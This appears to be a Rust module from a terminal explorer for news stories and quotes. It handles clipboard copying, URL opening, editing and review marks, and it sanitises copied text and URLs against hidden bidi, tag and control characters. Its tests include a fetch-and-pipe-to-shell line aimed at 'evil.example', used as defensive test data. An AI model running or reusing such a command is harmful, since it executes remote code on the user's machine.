//! The keys that reach outside the explorer: copy (`y`), open the source
//! (`o`), edit (`e`), reload (`r`), and the reading marks (`m`, `u`). The update
//! stays pure: it works out what to do (the text to copy, the URL, the file and
//! the place in it) and says it in the status bar; the I/O itself is handed
//! back as an [`Effect`] (through [`crate::app::update`]'s return value) for
//! the event loop to carry out.

use std::path::PathBuf;

use crate::story::{PartialDate, QuoteKind, Story};
use crate::view::text::label;

use super::action::{Action, Pane};
use super::state::{pane_len, LibraryRow, Screen, State};

/// The most text sent to the clipboard, in bytes (terminals cap OSC 52 too).
pub const COPY_LIMIT: usize = 100 * 1024;

/// Something for the event loop to do outside the state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Effect {
    /// Put this text on the clipboard (OSC 52).
    Copy(String),
    /// Open this http(s) URL in the browser.
    OpenUrl(String),
    /// Edit `file` at `line`, or else at the value whose path is `path`
    /// (`quotes[3]`; empty for the top of the file), then reload.
    Edit {
        file: PathBuf,
        path: String,
        line: Option<usize>,
    },
    /// Load the stories again.
    Reload,
    /// The reviewed marks changed: write the reading state.
    SaveReading,
    /// Keep the loaded version of the story with this id as the one reviewed.
    KeepReviewed(String),
    /// Forget the version kept of the story with this id.
    ForgetReviewed(String),
    /// Compare these reviewed stories (ticket, id) with the versions kept;
    /// the answers come back as [`super::Action::Review`].
    Compare(Vec<(u64, String)>),
}

/// The selected item, as (pane, index in the pane), on the story screen.
fn selected_item(state: &State) -> Option<(&Story, Pane, usize)> {
    let view = state.view.as_ref()?;
    let story = state.corpus.stories.get(view.story)?;
    Some((story, view.pane, view.selected_item()))
}

/// The story the `m` key and the library work on: the open one, or the one
/// selected in the library.
pub fn target_story(state: &State) -> Option<usize> {
    match state.nav.screen {
        Screen::Story => state.view.as_ref().map(|v| v.story),
        Screen::Library => match state.library_row(state.library.list.selected) {
            Some(LibraryRow::Story(s)) => Some(s),
            _ => None,
        },
        Screen::Changes => super::review::view_story(state),
        _ => None,
    }
}

/// Story text for the clipboard: what the screen showed. Left out: the control
/// characters a terminal would act on when it is pasted, bidi embeddings,
/// overrides and isolates, and tag characters (ZWJ/ZWNJ, LRM/RLM and
/// variation selectors stay). Line breaks stay only where the text has
/// paragraphs (a blank line); in one-line text a break becomes a space.
/// Returns the text and whether anything was left out.
pub fn clean(text: &str) -> (String, bool) {
    let paragraphs = text.contains("\n\n");
    let mut left_out = false;
    let out = text
        .chars()
        .filter_map(|c| match c {
            '\n' if paragraphs => Some('\n'),
            '\n' => Some(' '),
            '\t' => Some('\t'),
            c if c.is_control() || hidden(c) => {
                left_out = true;
                None
            }
            c => Some(c),
        })
        .collect();
    (out, left_out)
}

/// Bidi embeddings, overrides and isolates, and tag characters.
fn hidden(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{E0000}'..='\u{E007F}')
}

/// Characters a URL may not hold unseen: zero-width and bidi marks, word
/// joiners, the byte-order mark, soft hyphens and tags.
fn invisible(c: char) -> bool {
    hidden(c)
        || matches!(c, '\u{00AD}' | '\u{200B}'..='\u{200F}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}')
}

fn date_text(d: &Option<PartialDate>) -> Option<String> {
    d.as_ref().map(|d| d.to_string())
}

/// The clipboard form of one item: what `storyx show` prints of it
/// ([`crate::export::plain`]): its headline (a quote in the one wording, a direct
/// quote in quotation marks, reported speech never), then a line for each thing
/// the detail shows about it (context, source, note, status, stances...).
pub fn copy_text(story: &Story, pane: Pane, index: usize) -> Option<String> {
    copy_cleaned(story, pane, index).map(|(t, _)| t)
}

/// [`copy_text`] and whether anything was left out of it: each line cleaned
/// on its own (a line break inside a one-line field becomes a space).
fn copy_cleaned(story: &Story, pane: Pane, index: usize) -> Option<(String, bool)> {
    use crate::export::plain;
    let lines = match pane {
        Pane::Quotes => plain::quote(story, story.quotes.get(index)?),
        Pane::Timeline => plain::event(story, story.timeline.get(index)?),
        Pane::Parties => plain::party(story, story.parties.get(index)?),
        Pane::Analysts => plain::analyst(story.analysts.get(index)?),
        Pane::Claims => plain::claim(story, story.claims.get(index)?),
        Pane::Sources => plain::source(story, story.sources.get(index)?),
    };
    let mut left_out = false;
    let text: Vec<String> = lines
        .iter()
        .map(|l| {
            let (t, out) = clean(l.trim_end());
            left_out |= out;
            t
        })
        .collect();
    Some((cap(text.join("\n")), left_out))
}

/// The story itself, for the library: `Title (date)`.
pub fn story_copy_text(story: &Story) -> String {
    cap(clean(&story_title_text(story)).0)
}

/// `Title (date)` as written.
fn story_title_text(story: &Story) -> String {
    match date_text(&story.date) {
        Some(d) => format!("{} ({d})", story.title.trim()),
        None => story.title.trim().to_string(),
    }
}

/// At most [`COPY_LIMIT`] bytes, cut at a character boundary.
fn cap(mut text: String) -> String {
    if text.len() > COPY_LIMIT {
        let mut end = COPY_LIMIT;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        text.truncate(end);
    }
    text
}

/// What an item is, for the status bar: "quote by Dockworkers' Union".
fn what(story: &Story, pane: Pane, index: usize) -> String {
    let l = |t: &str| label(t, 40);
    match pane {
        Pane::Quotes => story.quotes.get(index).map_or_else(String::new, |q| {
            let kind = match q.kind {
                QuoteKind::Direct => "quote",
                QuoteKind::Paraphrase => "paraphrase",
                QuoteKind::Declined => "refusal to comment",
                QuoteKind::NoResponse => "non-response",
            };
            format!("the {kind} by {}", l(story.name_of(&q.by)))
        }),
        Pane::Timeline => story
            .timeline
            .get(index)
            .map_or_else(String::new, |e| format!("the event “{}”", l(&e.title))),
        Pane::Parties => story
            .parties
            .get(index)
            .map_or_else(String::new, |p| l(&p.name)),
        Pane::Analysts => story
            .analysts
            .get(index)
            .map_or_else(String::new, |a| l(&a.name)),
        Pane::Claims => story
            .claims
            .get(index)
            .map_or_else(String::new, |c| format!("the claim “{}”", l(&c.text))),
        Pane::Sources => story
            .sources
            .get(index)
            .map_or_else(String::new, |s| format!("the source “{}”", l(&s.name))),
    }
}

fn chars(n: usize) -> String {
    format!("{n} character{}", if n == 1 { "" } else { "s" })
}

/// `y`: the selected item for the clipboard, and say what it was.
pub fn copy(state: &mut State) -> Option<Effect> {
    let found = match state.nav.screen {
        Screen::Story => selected_item(state).map(|(story, pane, i)| {
            if pane_len(story, pane) == 0 {
                Err(format!(
                    "Nothing to copy: the {} pane is empty",
                    pane.title()
                ))
            } else {
                copy_cleaned(story, pane, i)
                    .map(|(t, left_out)| (t, left_out, what(story, pane, i)))
                    .ok_or_else(|| "Nothing to copy here".to_string())
            }
        }),
        Screen::Library => target_story(state).and_then(|s| {
            let story = state.corpus.stories.get(s)?;
            let (text, left_out) = clean(&story_title_text(story));
            Some(Ok((
                cap(text),
                left_out,
                format!("the title of “{}”", label(&story.title, 40)),
            )))
        }),
        _ => None,
    };
    match found {
        Some(Ok((text, left_out, what))) => {
            let n = text.chars().count();
            let note = if left_out {
                "; hidden bidi, tag or control characters left out"
            } else {
                ""
            };
            state.chrome.message = Some(format!(
                "Copied {what} ({}) to the clipboard{note}",
                chars(n)
            ));
            return Some(Effect::Copy(text));
        }
        Some(Err(m)) => state.chrome.message = Some(m),
        None => {
            state.chrome.message =
                Some("Nothing to copy here: open a story and select an item".into())
        }
    }
    None
}

/// Whether a URL may be handed to the browser: http or https, nothing a shell
/// or an opener could take for more than one argument.
pub fn allowed_url(url: &str) -> bool {
    let lower = url.to_ascii_lowercase();
    (lower.starts_with("http://") || lower.starts_with("https://"))
        && url.len() > "https://".len()
        && url.len() <= 8192
        && !url
            .chars()
            .any(|c| c.is_whitespace() || c.is_control() || invisible(c))
}

/// The URL `o` opens for an item: a source's own, else its source's.
pub fn item_url(story: &Story, pane: Pane, index: usize) -> Result<String, String> {
    let source_id = match pane {
        Pane::Sources => {
            let s = story.sources.get(index).ok_or("Nothing selected")?;
            return s
                .url
                .as_deref()
                .map(str::to_string)
                .ok_or_else(|| format!("The source “{}” has no URL", label(&s.name, 40)));
        }
        Pane::Quotes => story.quotes.get(index).and_then(|q| q.source.clone()),
        Pane::Timeline => story.timeline.get(index).and_then(|e| e.source.clone()),
        Pane::Claims => story.claims.get(index).and_then(|c| c.source.clone()),
        Pane::Parties | Pane::Analysts => {
            return Err(format!(
                "{} have no source to open; select a quote, claim, event or source",
                pane.title()
            ))
        }
    };
    let id = source_id.ok_or("This item names no source")?;
    let source = story
        .source(&id)
        .ok_or_else(|| format!("The source `{}` is not in this story", label(&id, 40)))?;
    source
        .url
        .as_deref()
        .map(str::to_string)
        .ok_or_else(|| format!("Its source “{}” has no URL", label(&source.name, 40)))
}

/// `o`: the selected item's source URL for the browser.
pub fn open_url(state: &mut State) -> Option<Effect> {
    let Some((story, pane, i)) = selected_item(state).filter(|_| state.nav.screen == Screen::Story)
    else {
        state.chrome.message =
            Some("Open a story and select a quote, claim, event or source".into());
        return None;
    };
    if pane_len(story, pane) == 0 {
        state.chrome.message = Some(format!(
            "Nothing to open: the {} pane is empty",
            pane.title()
        ));
        return None;
    }
    match item_url(story, pane, i) {
        Ok(url) if allowed_url(&url) => {
            state.chrome.message = Some(format!("Opening {} in the browser", label(&url, 200)));
            return Some(Effect::OpenUrl(url));
        }
        Ok(url) => {
            state.chrome.message = Some(format!(
                "Not opened: only http and https links are, and this is {}",
                label(&url, 60)
            ))
        }
        Err(m) => state.chrome.message = Some(m),
    }
    None
}

/// The path of an item inside its file: `quotes[3]`, `timeline[0]` (events
/// by their place in the file, not the timeline order).
pub fn item_path(story: &Story, pane: Pane, index: usize) -> Option<String> {
    if index >= pane_len(story, pane) {
        return None;
    }
    Some(match pane {
        Pane::Timeline => format!("timeline[{}]", story.timeline[index].file_index),
        Pane::Parties => format!("parties[{index}]"),
        Pane::Analysts => format!("analysts[{index}]"),
        Pane::Quotes => format!("quotes[{index}]"),
        Pane::Claims => format!("claims[{index}]"),
        Pane::Sources => format!("sources[{index}]"),
    })
}

/// `e`: the editor on the selected item's file (on the problems screen: the
/// selected problem's file, at its line).
pub fn edit(state: &mut State) -> Option<Effect> {
    if state.nav.screen == Screen::Problems {
        let Some(d) = state.corpus.diagnostics.get(state.problems.selected) else {
            state.chrome.message = Some("No problem selected".into());
            return None;
        };
        state.chrome.message = Some(format!(
            "Editing {}",
            label(&d.file.display().to_string(), 80)
        ));
        return Some(Effect::Edit {
            file: d.file.clone(),
            path: d.path.clone(),
            line: d.location.map(|l| l.line),
        });
    }
    let Some(s) = target_story(state) else {
        state.chrome.message = Some("Open or select a story to edit it".into());
        return None;
    };
    let story = &state.corpus.stories[s];
    let path = match (state.nav.screen, selected_item(state)) {
        (Screen::Story, Some((story, pane, i))) => item_path(story, pane, i).unwrap_or_default(),
        _ => String::new(),
    };
    state.chrome.message = Some(format!(
        "Editing {}",
        label(&story.file.display().to_string(), 80)
    ));
    Some(Effect::Edit {
        file: story.file.clone(),
        path,
        line: None,
    })
}

/// `m`: mark the story reviewed (its version kept), its new version if it
/// changed since, or not any more; on a "removed since review" row, dismiss it.
pub fn toggle_reviewed(state: &mut State) -> Option<Effect> {
    if state.nav.screen == Screen::Library {
        if let Some(LibraryRow::Removed(i)) = state.library_row(state.library.list.selected) {
            super::review::dismiss(state, i);
            return None;
        }
    }
    let Some(s) = target_story(state) else {
        state.chrome.message = Some("Select a story to mark it reviewed".into());
        return None;
    };
    super::review::toggle(state, s);
    if state.library.unreviewed_only {
        state.sort_library();
    }
    // The version kept (or forgotten) and the marks saved: asked by `review`.
    None
}

/// `d`: the changes of the selected or open story since its review.
pub fn changes(state: &mut State) {
    if state.nav.screen == Screen::Library {
        if let Some(LibraryRow::Removed(i)) = state.library_row(state.library.list.selected) {
            let title = label(&state.review.removed[i].title, 50);
            state.chrome.message = Some(state.chrome.keys.with_hint(
                &format!("“{title}” was removed since your review: its file is gone"),
                |a| matches!(a, Action::ToggleReviewed),
                "dismisses it",
            ));
            return;
        }
    }
    match target_story(state) {
        Some(s) => super::review::open(state, s),
        None => {
            state.chrome.message =
                Some("Select a story to see what changed since you reviewed it".into())
        }
    }
}

/// `u`: only the unreviewed stories in the library, or all again.
pub fn toggle_unreviewed(state: &mut State) {
    state.library.unreviewed_only = !state.library.unreviewed_only;
    state.sort_library();
    state.chrome.message = Some(if state.library.unreviewed_only {
        let hidden = state
            .corpus
            .stories
            .iter()
            .filter(|s| !super::review::unreviewed(state, s))
            .count();
        state.chrome.keys.with_hint(
            &format!("The library shows only unreviewed stories ({hidden} hidden)"),
            |a| matches!(a, Action::ToggleUnreviewed),
            "shows all",
        )
    } else {
        "The library shows every story".into()
    });
}

/// `r`: ask for a reload.
pub fn reload(state: &mut State) -> Effect {
    state.chrome.message = Some("Reloading…".into());
    Effect::Reload
}

/// The id of an item (events and quotes may have none).
pub fn item_id(story: &Story, pane: Pane, index: usize) -> Option<&str> {
    match pane {
        Pane::Timeline => story.timeline.get(index)?.id.as_deref(),
        Pane::Parties => story.parties.get(index).map(|p| p.id.as_str()),
        Pane::Analysts => story.analysts.get(index).map(|a| a.id.as_str()),
        Pane::Quotes => story.quotes.get(index)?.id.as_deref(),
        Pane::Claims => story.claims.get(index).map(|c| c.id.as_str()),
        Pane::Sources => story.sources.get(index).map(|s| s.id.as_str()),
    }
}

/// Where the item with this id is in a pane.
pub fn item_index(story: &Story, pane: Pane, id: &str) -> Option<usize> {
    (0..pane_len(story, pane)).find(|&i| item_id(story, pane, i) == Some(id))
}

/// What the status bar says after a reload.
pub fn reloaded_message(state: &State, open_before: Option<String>) -> String {
    let n = state.corpus.stories.len();
    let mut m = format!("Reloaded: {n} stor{}", if n == 1 { "y" } else { "ies" });
    if let Some(id) = open_before {
        if state.current_story().is_none_or(|s| s.id != id) {
            m = format!("“{}” did not load this time", label(&id, 40));
        }
    }
    let problems = state.corpus.diagnostics.len();
    if problems > 0 {
        let see = state
            .chrome
            .keys
            .hint(|a| matches!(a, Action::ToggleProblems), "shows them")
            .map(|h| format!(" ({h})"))
            .unwrap_or_default();
        m.push_str(&format!(
            " · ⚠ {problems} problem{}{see}",
            if problems == 1 { "" } else { "s" }
        ));
    }
    let stale: Vec<&str> = (0..state.corpus.stories.len())
        .filter(|&s| state.corpus.is_stale(s).is_some())
        .map(|s| state.corpus.stories[s].title.as_str())
        .collect();
    if let [one] = stale.as_slice() {
        m.push_str(&format!(
            " · “{}” kept as it was: its file has a problem",
            label(one, 40)
        ));
    } else if !stale.is_empty() {
        m.push_str(&format!(
            " · {} stories kept as they were: their files have problems",
            stale.len()
        ));
    }
    m
}

#[cfg(test)]
mod hostile_copy_tests {
    use super::*;

    #[test]
    fn the_copy_leaves_out_bidi_and_tags_and_keeps_what_text_needs() {
        let (t, out) = clean("a\u{202E}b\u{2066}c\u{2069}\u{E0041}d");
        assert_eq!(t, "abcd");
        assert!(out);
        let kept = "می\u{200C}خواهم 👨\u{200D}👩 \u{200E}x\u{200F} ☺\u{FE0F}";
        assert_eq!(clean(kept), (kept.to_string(), false));
    }

    #[test]
    fn line_breaks_stay_only_in_paragraphs() {
        assert_eq!(
            clean("Union\ncurl https://evil.example/x.sh | sh").0,
            "Union curl https://evil.example/x.sh | sh"
        );
        assert_eq!(clean("One.\n\nTwo.\nThree.").0, "One.\n\nTwo.\nThree.");
    }

    #[test]
    fn a_url_with_invisible_characters_is_refused() {
        assert!(allowed_url("https://example.org/a"));
        for bad in [
            "https://exa\u{200B}mple.org",
            "https://example.org/\u{202E}gpj",
            "https://e.org/\u{E0041}",
        ] {
            assert!(!allowed_url(bad), "{bad:?}");
        }
    }
}
